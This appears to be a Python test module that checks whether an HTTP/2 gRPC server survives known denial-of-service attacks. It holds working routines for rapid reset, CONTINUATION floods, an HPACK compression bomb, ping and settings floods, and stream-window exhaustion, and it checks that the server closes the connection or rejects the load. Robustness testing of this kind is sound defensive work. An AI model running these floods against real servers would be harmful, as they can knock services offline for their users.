"""Much of what is allowed one at a time. The server must end the connection, or bear it."""

import select

from connection import (
    ENHANCE_YOUR_CALM, OK, RESOURCE_EXHAUSTED, Connection, expect, expect_good_call, h2, message,
    request)


def pour(connection, data, times):
    """Says the same many times without listening, until the server takes no more."""
    connection.socket.settimeout(2)
    try:
        for _ in range(times):
            connection.raw(data)
            if connection.is_closed:
                return
    except TimeoutError:
        # The server has stopped to read, since nobody reads what it says: bounded, too.
        pass


def flood(frames, times, ends=None):
    """Pours frames out; then the server must have ended the connection if `ends`."""
    def attack(port):
        connection = Connection(port)
        data = b"".join(frame.serialize() for frame in frames(connection))
        pour(connection, data, times)
        if ends:
            connection.socket.settimeout(20)
            connection.end()
            expect("the end", connection.is_closed, True)
    return attack


def cancel_calls(connection, count):
    """Begins and cancels so many calls, or as many as the server bears."""
    for number in range(count):
        stream = 2 * number + 1
        connection.send(
            connection.headers_frame(stream, request("FullDuplexCall")),
            h2.RstStreamFrame(stream, error_code=8))
        if connection.is_closed:
            break


def rapid_reset(port):
    connection = Connection(port)
    cancel_calls(connection, 20_000)
    connection.end()


def many_cancelled_calls(port):
    """No flood: the deadlines of many calls pass together, and others go on."""
    connection = Connection(port)
    cancel_calls(connection, 5000)
    expect_good_call(connection, 10_001)


def made_you_reset(port):
    connection = Connection(port)
    for number in range(20_000):
        stream = 2 * number + 1
        # A window too large is an error of the stream, which the server must reset.
        connection.send(
            connection.headers_frame(stream, request("FullDuplexCall")),
            *[h2.WindowUpdateFrame(stream, window_increment=0x7fffffff)] * 2)
        if select.select([connection.socket], [], [], 0)[0]:
            connection.read_frame()
        if connection.is_closed or connection.goaway is not None:
            break
    expect("the GOAWAY", connection.end(), ENHANCE_YOUR_CALM)


def continuation_flood(port):
    connection = Connection(port)
    connection.raw(h2.HeadersFrame(1, data=connection.encoder.encode(request())).serialize())
    # A header that is never indexed, again and again, in a block that never ends.
    field = b"\x10\x01a" + b"\x7f\x81\x1f" + b"v" * 4096
    pour(connection, h2.ContinuationFrame(1, data=field).serialize(), 10_000)
    connection.socket.settimeout(20)
    connection.end()


def empty_continuation_flood(port):
    connection = Connection(port)
    connection.raw(h2.HeadersFrame(1, data=connection.encoder.encode(request())).serialize())
    pour(connection, h2.ContinuationFrame(1, data=b"").serialize() * 1000, 1000)
    connection.socket.settimeout(20)
    connection.end()


def compression_bomb(port):
    """A header of 4 KiB, put into the compressor's table once and referred to by single bytes."""
    connection = Connection(port)
    block = connection.encoder.encode(request() + [("x-bomb", "v" * 4000)])
    connection.send(
        h2.HeadersFrame(1, data=block + b"\xbe" * 10_000, flags=[]),
        *[h2.ContinuationFrame(1, data=b"\xbe" * 16_000) for _ in range(4)],
        h2.ContinuationFrame(1, data=b"\xbe" * 16_000, flags=["END_HEADERS"]))
    heard = connection.answer(1)
    if not connection.is_closed:
        expect("the status", heard.grpc_status, RESOURCE_EXHAUSTED)


def empty_data_flood(port):
    connection = Connection(port)
    connection.begin(1, request("StreamingInputCall"))
    pour(connection, h2.DataFrame(1, data=b"").serialize() * 1000, 200)
    if not connection.is_closed:
        connection.data(1)
        expect("the status", connection.answer(1).grpc_status, OK)


def many_small_messages(port):
    connection = Connection(port)
    connection.begin(1, request("StreamingInputCall"))
    # As many as the window of a stream allows; nobody may need much memory for nothing.
    for _ in range(13):
        connection.data(1, message() * 1000, ends=False)
    connection.data(1)
    expect("the status", connection.answer(1).grpc_status, OK)
    expect_good_call(connection, 3)


def window_never_opened(port):
    """Asks for 256 MiB and takes none of it; then takes it after all."""
    connection = Connection(port, settings={h2.SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    connection.ping()
    sizes = b"\x12\x04\x08\x80\x80\x40" * 256  # 256 × ResponseParameters { size: 1 MiB }
    for stream in (1, 3, 5, 7):
        connection.begin(stream, request("StreamingOutputCall"))
        connection.data(stream, message(sizes))
    # Others on the connection are answered as far as the window allows: the trailers need none.
    connection.begin(9, request("Nothing"), ends=True)
    expect("the HTTP status", connection.answer(9).http_status, "200")
    connection.ping()
    expect("the bytes that came without a window", len(connection.streams[1].data), 0)
    for stream in (1, 3, 5, 7):
        connection.send(h2.RstStreamFrame(stream, error_code=8))
    connection.ping()


def half_a_message_on_many_streams(port):
    """Announces 4 MiB on each of 1,000 streams, and sends none of it."""
    connection = Connection(port)
    for number in range(1000):
        connection.begin(2 * number + 1, request())
        connection.data(2 * number + 1, message(length=4 << 20), ends=False)
    connection.ping()


ATTACKS = {
    "ping_flood": flood(lambda _: [h2.PingFrame(opaque_data=bytes(8))] * 1000, 1000, ends=True),
    "settings_flood": flood(lambda _: [h2.SettingsFrame()] * 1000, 1000, ends=True),
    "priority_flood": flood(
        lambda _: [h2.PriorityFrame(n, depends_on=0) for n in range(1, 2001, 2)], 200),
    "window_update_flood": flood(
        lambda _: [h2.WindowUpdateFrame(0, window_increment=1)] * 1000, 200),
    "rapid_reset": rapid_reset,
    "many_cancelled_calls": many_cancelled_calls,
    "made_you_reset": made_you_reset,
    "continuation_flood": continuation_flood,
    "empty_continuation_flood": empty_continuation_flood,
    "compression_bomb": compression_bomb,
    "empty_data_flood": empty_data_flood,
    "many_small_messages": many_small_messages,
    "window_never_opened": window_never_opened,
    "half_a_message_on_many_streams": half_a_message_on_many_streams,
}
